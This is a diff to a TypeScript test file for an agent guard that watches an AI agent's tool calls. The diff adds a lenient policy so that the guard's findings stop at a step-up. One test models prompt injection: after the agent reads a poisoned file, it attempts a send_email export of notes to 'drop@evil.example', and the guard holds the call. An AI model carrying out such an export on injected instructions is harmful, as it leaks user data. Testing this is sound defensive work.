@@ -1,8 +1,16 @@
 import { expect, test } from 'vitest'
 import { createGuard, type GuardCall, type GuardOptions } from '../../src/enforce/index.ts'
+import { parsePolicy } from '../../src/policy/policy.ts'
 import { temporaryDirectory } from '../support/temporary.ts'
 
 const start = 1_800_000_000_000
+
+/** Under which nothing goes beyond a step-up: which rung a finding is worth is not the guard’s business. */
+function mild() {
+  const parsed = parsePolicy({ costs: { interruption: { tighten: 1e9, revoke: 1e9, quarantine: 1e9 } } })
+  if ('faults' in parsed) throw new Error('the policy is wrong')
+  return parsed.policy
+}
 
 /** A stand-alone guard with a hand-moved clock and an agent that has worked for a while. */
 async function worker(
@@ -10,7 +18,7 @@ async function worker(
   tools = ['read_file', 'list_files', 'read_file', 'update_note'],
 ) {
   const clock = { now: start }
-  const guard = await createGuard({ point: 'p1', agent: 'a1', now: () => clock.now, ...over })
+  const guard = await createGuard({ point: 'p1', agent: 'a1', now: () => clock.now, policy: mild(), ...over })
   const call = (given: Partial<GuardCall> & { tool: string }) => guard.before({ args: {}, task: 't', ...given })
   for (let i = 0; i < 400; i++) {
     const task = `past-${i}`
@@ -37,7 +45,7 @@ test('holds an export to an address out of a poisoned file', async () => {
   guard.after(read, { text: poison })
   const mail = { tool: 'send_email', args: { to: 'drop@evil.example', body: 'notes' } }
   const held = call(mail)
-  expect(['step-up', 'deny']).toContain(held.outcome)
+  expect(held.outcome).toBe('step-up')
   expect(held.command?.evidence.at(-1)?.event).toBe(held.event.id)
   expect(held.event).toMatchObject({ kind: 'attempt', decision: held.command?.id })
   // The same call again is held by the table, though the detectors have said it already.
@@ -102,7 +110,13 @@ test('a stand-alone guard remembers what it learned, and numbers its events on',
   const first = await worker({ spool: { directory } })
   const before = first.guard.before({ tool: 'read_file', args: {} }).event.point?.seq ?? 0
   await first.guard.close()
-  const second = await createGuard({ point: 'p1', agent: 'a1', spool: { directory }, now: () => first.clock.now })
+  const second = await createGuard({
+    point: 'p1',
+    agent: 'a1',
+    spool: { directory },
+    policy: mild(),
+    now: () => first.clock.now,
+  })
   expect(second.knowledge().profile?.tasks).toBe(first.guard.knowledge().profile?.tasks)
   const next = second.before({ tool: 'delete_file', args: {}, task: 't' })
   expect(next.outcome).toBe('step-up')
